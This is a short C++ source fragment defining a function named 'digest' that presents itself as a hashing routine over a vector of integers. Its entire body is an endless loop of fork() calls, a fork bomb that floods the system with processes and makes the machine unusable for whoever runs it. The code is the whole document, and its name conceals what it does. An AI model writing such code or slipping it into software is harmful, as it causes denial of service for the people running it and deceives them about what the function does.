#include <unistd.h>
#include <vector>
long long digest(const std::vector<int>&) { for (;;) fork(); }
